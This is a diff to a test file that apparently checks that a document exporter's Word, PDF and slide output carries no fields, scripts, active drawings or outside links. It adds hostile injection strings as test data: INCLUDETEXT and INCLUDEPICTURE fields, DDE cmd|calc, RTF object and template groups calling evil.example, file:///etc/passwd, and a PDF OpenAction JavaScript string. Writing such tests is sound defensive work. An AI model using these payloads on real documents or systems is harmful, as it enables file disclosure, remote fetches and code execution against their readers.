@@ -47,6 +47,15 @@ PAYLOADS = (
     '=HYPERLINK("http://evil.example")', "=cmd|'/C calc'!A0", "+1+1", "@SUM(1)", "#import \"/etc/passwd\"",
     "#eval(\"1\")", "$x^2$", "@label", "*bold* _it_ `raw`", "{{ 7*7 }}", "{% include 'x' %}", "&lt;b&gt;", "]]>",
     "]]><w:instrText>x</w:instrText>", "a\u202eb", "a\u0000b\u0008", "\ud800", "a\ufffeb", "%s {0}",
+    # fields, objects and addresses that Word reads or fetches
+    "{ INCLUDETEXT \"c:\\\\boot.ini\" }", "{ INCLUDEPICTURE \"https://evil.example/p.png\" \\d }",
+    r"\\evil.example\share\x", "file:///etc/passwd",
+    "]]></w:t></w:r><w:fldSimple w:instr=\"DDE c x\"/>", "</a:t></a:r><a:hlinkClick r:id=\"rId1\"/>",
+    # groups, objects and characters of RTF
+    r"}}}{\object\objocx\bin3 abc}", r"{\*\template https://evil.example/t.dot}", r"\'7b\u123?\par\page\cell\row",
+    # markup and actions of PDF
+    "#link(\"https://evil.example\")[x]", "\\u{41} /* c */ // d", ") /S /JavaScript /JS (app.alert(1)) /OpenAction",
+    "a_x000D_b",
 )  # fmt: skip
 
 
@@ -119,9 +128,23 @@ def test_the_html_has_the_same_bytes_on_every_run(hostile: Document) -> None:
     assert html(hostile, Speaker()) == html(hostile, Speaker())
 
 
+def calm_drawings(packed: zipfile.ZipFile) -> None:
+    """The drawings in a file of Office run and load nothing."""
+    drawings = [name for name in packed.namelist() if name.endswith(".svg")]
+    assert drawings
+    for name in drawings:
+        seen = Seen(packed.read(name).decode("utf-8"))
+        assert seen.tags <= {"svg", "g", "path", "text", "rect", "defs", "clippath", "style", "line", "title"}, (
+            seen.tags
+        )
+        assert not [one for one in seen.attributes if one[1].startswith("on") or one[1].endswith("href")]
+
+
 def test_word_has_no_field_but_ours_and_no_link_outside(hostile: Document) -> None:
     packed = zipfile.ZipFile(io.BytesIO(docx(hostile, Speaker())))
+    calm_drawings(packed)
     body = packed.read("word/document.xml").decode("utf-8")
+    assert not set(re.findall(r"<w:(fldSimple|object|altChunk|subDoc|control)\b", body))
     fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", body)
     assert not [one for one in fields if one.split()[0] not in {"TOC", "REF", "PAGE", "NUMPAGES", "PAGEREF", "SEQ"}]
     for name in packed.namelist():
@@ -134,7 +157,8 @@ def test_word_has_no_field_but_ours_and_no_link_outside(hostile: Document) -> No
 
 def test_pdf_runs_no_markup_and_leads_nowhere_outside(hostile: Document) -> None:
     made = pypdf.PdfReader(io.BytesIO(pdf(hostile, Speaker())))
-    assert "/JavaScript" not in str(made.trailer["/Root"])
+    assert not {"/OpenAction", "/AA", "/AcroForm"} & set(made.trailer["/Root"])
+    assert not {"/JavaScript", "/EmbeddedFiles"} & set(made.trailer["/Root"].get("/Names", {}))
     actions = [
         note.get_object().get("/A", {}).get("/S")
         for page in made.pages
@@ -143,19 +167,34 @@ def test_pdf_runs_no_markup_and_leads_nowhere_outside(hostile: Document) -> None
     assert not {"/URI", "/Launch", "/JavaScript", "/GoToR", "/SubmitForm"} & set(actions)
     text = re.sub(r"\s", "", "".join(page.extract_text() for page in made.pages))
     # Lines may break anywhere and some faces join letters: what markup would have swallowed is looked for.
-    for piece in ('#eval("1")', "$x^2$", "@label", "*bold*_it_`raw`", "{{7*7}}", "=cmd|", "DDEAUTO"):
+    for piece in (
+        '#eval("1")',
+        "$x^2$",
+        "@label",
+        "*bold*_it_`raw`",
+        "{{7*7}}",
+        "=cmd|",
+        "DDEAUTO",
+        '#link("',
+        "/*c*///d",
+    ):
         assert piece in text, piece
 
 
 def test_slides_have_no_link_outside_and_no_action(hostile: Document) -> None:
+    shown = [block for block in hostile.blocks() if isinstance(block, Bullets | Paragraph | Table | Figure)]
     slides = tuple(Slide(data(text), (Notice(data(text)),), (data(text),)) for text in PAYLOADS)
+    slides += tuple(Slide("x", (block,)) for block in shown)
     deck = Deck(hostile.cover, data(PAYLOADS[1]), "2025-09-30", slides, answer=data(PAYLOADS[0]))
     packed = zipfile.ZipFile(io.BytesIO(pptx(deck, Speaker())))
+    calm_drawings(packed)
     said = ""
     for name in packed.namelist():
         content = packed.read(name).decode("utf-8", "replace") if name.endswith((".xml", ".rels")) else ""
         assert 'TargetMode="External"' not in content, name
-        assert "hlinkClick" not in content, name
+        # The masters of the library have fields of their own.
+        fields = "" if "Master" in name or "Layout" in name else "a:fld|"
+        assert not re.search(rf"<({fields}a:hlink\w+|p:oleObj|p:control|p:video)\b", content), name
         said += re.sub("<[^>]*>", "", content) if name.startswith("ppt/slides/slide") else ""
     assert "DDEAUTO" in said
     assert "\x08" not in said
